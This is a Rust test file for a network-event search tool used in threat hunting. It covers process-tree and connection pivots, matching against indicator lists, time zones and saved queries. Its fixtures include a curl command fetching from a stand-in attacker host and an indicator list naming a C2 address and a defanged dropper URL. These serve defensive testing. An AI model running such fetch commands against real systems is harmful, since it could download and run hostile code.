//! Tests what leads from one thing to all that belongs to it, and the zones of times.

#![expect(clippy::unwrap_used, reason = "a test that cannot go on has failed")]

use std::{
    fs,
    process::{Command, Stdio},
};

use crate::support::Scene;

/// 10:00 UTC on 21 November 2026.
const BEGIN: i64 = 1_795_255_200_000;

/// A shell (p1) that starts curl (p2), which starts nc (p3); a server (p4) at the other end of nc's connection; another host.
fn scene() -> Scene {
    let scene = Scene::new();
    let event = |id: &str, second: i64, kind: &str, process: (&str, &str), ends: (&str, &str), more: &str| {
        let (uid, parent) = process;
        let (connection, address) = ends;
        format!(
            "{{\"event.type\":\"{kind}\",\"event.id\":\"{id}\",\"event.time\":{},\"agent.uuid\":\"s\",\"src.process.uid\":\"{uid}\",\
             \"src.process.parent.uid\":\"{parent}\",\"event.connection.id\":\"{connection}\",\"src.ip.address\":\"10.0.0.1\",\
             \"dst.ip.address\":\"{address}\",\"remote.ip.address\":\"{address}\"{more}}}\n",
            BEGIN + second * 1000
        )
    };
    let flow = ",\"event.network.communityId\":\"1:abc=\"";
    let events = [
        event("r-1", 0, "IP Connect", ("p1", "p0"), ("c1", "198.51.100.7"), ""),
        event(
            "r-2",
            60,
            "IP Connect",
            ("p2", "p1"),
            ("c2", "203.0.113.9"),
            ",\"src.process.cmdline\":\"curl https://cdn.evil.example/x\"",
        ),
        event("r-3", 100, "IP Connect", ("p3", "p2"), ("c3", "10.0.0.1"), flow),
        event("r-4", 100, "IP Connect", ("p4", "p0"), ("c4", "10.0.0.1"), flow),
        event("r-5", 130, "IP Close", ("p3", "p2"), ("c3", "10.0.0.1"), flow),
        // The same ports again, much later.
        event("r-6", 9000, "IP Connect", ("p5", "p0"), ("c5", "10.0.0.1"), flow),
    ];
    fs::write(scene.path("e.ndjson"), events.concat()).unwrap();
    let other = event("o-1", 65, "IP Connect", ("q1", "p1x"), ("d1", "198.51.100.8"), "")
        .replace("\"agent.uuid\":\"s\"", "\"agent.uuid\":\"t\"");
    fs::write(scene.path("o.ndjson"), other).unwrap();
    scene
}

/// Returns the lines of the answer in CSV, without its heading.
fn found(scene: &Scene, arguments: &[&str]) -> Vec<String> {
    let all = [arguments, &["-f", "e.ndjson", "-f", "o.ndjson", "--format", "csv", "-q"]].concat();
    let output = scene.run(&all);
    let [out, said] = [output.stdout, output.stderr].map(|bytes| String::from_utf8(bytes).unwrap());
    assert!(output.status.success() && said.is_empty(), "{arguments:?}: {said}");
    out.lines().skip(1).map(str::to_owned).collect()
}

#[test]
fn the_time_around_an_event() {
    let scene = scene();
    let rows = found(&scene, &["--around", "r-2", "40s", "| columns event.id, around"]);
    assert_eq!(rows, ["r-2,this", "r-3,after", "r-4,after"]);
    let rows = found(&scene, &["--around", "r-2", "event.type = 'IP Connect' | columns event.id, around"]);
    assert_eq!(rows, ["r-1,before", "r-2,this", "r-3,after", "r-4,after"], "ten minutes, of this host only");
    let rows = found(&scene, &["--around", "r-2", "--until", "2026-11-21T10:01:01Z", "| columns event.id"]);
    assert_eq!(rows, ["r-1", "r-2"]);
    let rows = found(
        &scene,
        &[
            "--around",
            "r-2",
            "1m",
            "| union (event.id = 'r-1' | columns event.id), (event.id = 'r-6' | columns event.id)",
        ],
    );
    assert_eq!(rows, ["r-1"]);
    for (arguments, expected) in [
        (&["--around", "r-9"][..], "netconn: no event has the id 'r-9' in the named files\n"),
        (&["--around", "r-1", "5x"], "netconn: '5x' is not a length of time: use 30s, 15m, 4 hours or 3d\n"),
        (
            &["--around", "r-1", "5m", "| dataset 'x'"],
            "netconn: --around, --of-process, --of-connection and --ioc select events, and this query reads a table instead\n",
        ),
        (
            &["--around", "r-1", "a = 1", "b = 1"],
            "netconn: 'a = 1' is not a length of time: use 30s, 15m, 4 hours or 3d\n",
        ),
    ] {
        scene.check(&[arguments, &["-f", "e.ndjson"]].concat(), 2, "", expected);
    }
    let follow = scene.run(&["--around", "r-1", "--follow"]);
    assert_eq!(follow.status.code(), Some(2));
}

#[test]
fn a_process_with_its_descendants_and_a_connection_with_both_ends() {
    let scene = scene();
    let ids = "| sort event.id | columns event.id";
    assert_eq!(found(&scene, &["--of-process", "p1", ids]), ["r-1", "r-2", "r-3", "r-5"]);
    assert_eq!(found(&scene, &["--of-process", "p2", &format!("event.type = 'IP Connect' {ids}")]), ["r-2", "r-3"]);
    // Of a parent without events of its own.
    assert_eq!(found(&scene, &["--of-process", "p0", ids]), ["r-1", "r-2", "r-3", "r-4", "r-5", "r-6"]);
    for id in ["c3", "c4"] {
        assert_eq!(found(&scene, &["--of-connection", id, ids]), ["r-3", "r-4", "r-5"], "{id}");
    }
    assert_eq!(found(&scene, &["--of-connection", "1:abc=", ids]), ["r-3", "r-4", "r-5", "r-6"]);
    assert_eq!(found(&scene, &["--of-connection", "c3", "--of-process", "p4", ids]), ["r-4"]);
    let said = |arguments: &[&str]| {
        let output = scene.run(&[arguments, &["-f", "e.ndjson"]].concat());
        assert_eq!(output.status.code(), Some(2));
        String::from_utf8(output.stderr).unwrap()
    };
    assert_eq!(said(&["--of-process", "p9"]), "netconn: no event has the process 'p9' in the named files\n");
    assert_eq!(said(&["--of-connection", "c9"]), "netconn: no event has the connection 'c9' in the named files\n");
    assert!(said(&["--of-process", "4711"]).contains("'4711' is a process id, which other processes get too"));
}

/// A terminal gets the first 1,000 rows: of the events around one, the nearest.
#[test]
fn a_terminal_gets_the_events_nearest_to_the_one_that_is_asked_for() {
    let scene = Scene::new();
    let event = |number: i64| {
        let time = BEGIN + number * 10;
        format!(
            "{{\"event.type\":\"IP Connect\",\"event.id\":\"m-{number}\",\"event.time\":{time},\"agent.uuid\":\"s\"}}\n"
        )
    };
    fs::write(scene.path("many.ndjson"), (0..4000).map(event).collect::<String>()).unwrap();
    let shown = |query: &str| {
        let program = env!("CARGO_BIN_EXE_netconn-search");
        let search = format!("{program} --around m-2500 1h \"{query}\" -f many.ndjson -q");
        let mut command = Command::new("script");
        command.args(["--quiet", "--return", "--command", &search, "/dev/null"]).current_dir(scene.folder.path());
        command.env_clear().env("HOME", scene.folder.path()).env("TZ", "UTC").env("SHELL", "/bin/sh");
        let output = command.stdin(Stdio::null()).output().unwrap();
        String::from_utf8(output.stdout).unwrap()
    };
    let text = shown("| columns event.id, around");
    let rows: Vec<Vec<&str>> = text.lines().map(|line| line.split_whitespace().collect()).collect();
    let ids: Vec<&str> =
        rows.iter().filter_map(|row| row.first().copied()).filter(|word| word.starts_with("m-")).collect();
    assert_eq!((ids.len(), ids.first(), ids.last()), (1000, Some(&"m-2000"), Some(&"m-2999")), "{text}");
    assert!(rows.contains(&vec!["m-2500", "this"]), "{text}");
    assert!(text.contains("only the 1000 events nearest to the event are shown, of 4000;"), "{text}");
    // An order of the query's own is kept.
    let text = shown("| sort event.time | columns event.id");
    assert!(text.contains("m-999") && !text.contains("m-1000"), "{text}");
}

#[test]
fn generations_that_are_not_looked_for_are_told() {
    let scene = Scene::new();
    let event = |number: i64| {
        format!(
            "{{\"event.type\":\"IP Connect\",\"event.id\":\"g-{number}\",\"event.time\":{BEGIN},\"src.process.uid\":\"p{number}\",\
             \"src.process.parent.uid\":\"p{}\"}}\n",
            number - 1
        )
    };
    for (processes, rows, is_told) in [(15, 15, false), (20, 17, true)] {
        fs::write(scene.path("chain.ndjson"), (1..=processes).map(event).collect::<String>()).unwrap();
        let output = scene.run(&["--of-process", "p1", "| group n = count()", "-f", "chain.ndjson", "--format", "csv"]);
        let [out, said] = [output.stdout, output.stderr].map(|bytes| String::from_utf8(bytes).unwrap());
        assert_eq!(out, format!("n\n{rows}\n"), "{said}");
        assert_eq!(said.contains("in generation 16 were not looked for"), is_told, "{said}");
    }
}

#[test]
fn indicators_are_found_in_one_step() {
    let scene = scene();
    fs::write(
        scene.path("list.csv"),
        "# feed\n198.51.100[.]7,c2\nhxxps://evil[.]example/drop,dropper\n203.0.113.0/24,bad network\n192.0.2.1,unseen\nnonsense\n",
    )
    .unwrap();
    let columns = "| sort event.id | columns event.id, indicator";
    let rows = found(&scene, &["--ioc", "list.csv", columns]);
    assert_eq!(rows, ["r-1,198.51.100[.]7", "r-2,203.0.113.0/24"]);
    let grouped = found(&scene, &["--ioc", "list.csv", "--of-process", "p2", "| group n = count() by indicator"]);
    assert_eq!(grouped, ["203.0.113.0/24,1"]);
    fs::write(scene.path("names.txt"), "evil.example\n").unwrap();
    assert_eq!(found(&scene, &["--ioc", "names.txt", columns]), ["r-2,evil.example"]);
    fs::write(scene.path("none.txt"), "192.0.2.1\n").unwrap();
    assert_eq!(found(&scene, &["--ioc", "none.txt", "| group n = count()"]), ["0"]);
    let output = scene.run(&["--ioc", "list.csv", columns, "-f", "e.ndjson", "--format", "csv"]);
    let said = String::from_utf8(output.stderr).unwrap();
    assert!(said.contains("list.csv, line 6: 'nonsense' is no address, network or name of a host\n"), "{said}");
    assert!(said.contains("4 indicators in list.csv, 3 of them in the searched events\n"), "{said}");
    fs::write(scene.path("empty.txt"), "# nothing\n").unwrap();
    scene.check(
        &["--ioc", "empty.txt", "-f", "e.ndjson"],
        2,
        "",
        "netconn: empty.txt has no address, network or name of a host in any line\n",
    );
    let missing = scene.run(&["--ioc", "missing.txt", "-f", "e.ndjson"]);
    let said = String::from_utf8(missing.stderr).unwrap();
    assert!(
        missing.status.code() == Some(74) && said.contains("cannot read the indicators in missing.txt: "),
        "{said}"
    );
}

#[test]
fn times_are_shown_in_the_zone_that_is_asked_for() {
    let scene = scene();
    let table = |arguments: &[&str]| {
        let output = scene.run(&[&["event.id = 'r-2' | columns event.time", "-f", "e.ndjson"], arguments].concat());
        (output.status.code(), String::from_utf8(output.stdout).unwrap())
    };
    assert_eq!(table(&[]).1, "event.time UTC\n2026-11-21 10:01\n");
    assert_eq!(table(&["--zone", "+05:30"]).1, "event.time +05:30\n2026-11-21 15:31\n");
    // The range is read in the zone too.
    assert_eq!(
        table(&["--zone", "+05:30", "--since", "2026-11-21 15:31", "--until", "2026-11-21 15:32"]).1.lines().count(),
        2
    );
    assert_eq!(table(&["--utc", "--since", "2026-11-21 15:31"]).1, "");
    let (code, _) = table(&["--zone", "Mars/Olympus"]);
    assert_eq!(code, Some(2));
    // A heading can be typed back.
    let output = scene.run(&["id = 'r-2' | columns time, dst.ip", "-f", "e.ndjson", "--format", "csv"]);
    let [out, said] = [output.stdout, output.stderr].map(|bytes| String::from_utf8(bytes).unwrap());
    assert_eq!((out.as_str(), said.as_str()), ("event.time,dst.ip.address\n1795255260000,203.0.113.9\n", ""));
}

#[test]
fn saved_queries_are_shown_and_removed() {
    let scene = scene();
    let saved = scene.run(&["event.id = 'r-2'\n| columns event.id", "--save", "one", "-f", "e.ndjson", "-q"]);
    assert!(saved.status.success());
    scene.check(&["--saved", "one", "--show"], 0, "event.id = 'r-2'\n| columns event.id\n", "");
    scene.check(
        &["--saved", "--show"],
        2,
        "",
        "netconn: --show and --remove need the name of a saved query: --saved NAME\n",
    );
    scene.check(&["--saved", "one", "--remove"], 0, "", "netconn: removed one\n");
    scene.check(&["--saved"], 0, "", "");
    scene.check(&["--saved", "one", "--remove"], 2, "", "netconn: there is no saved query 'one'\n");
}
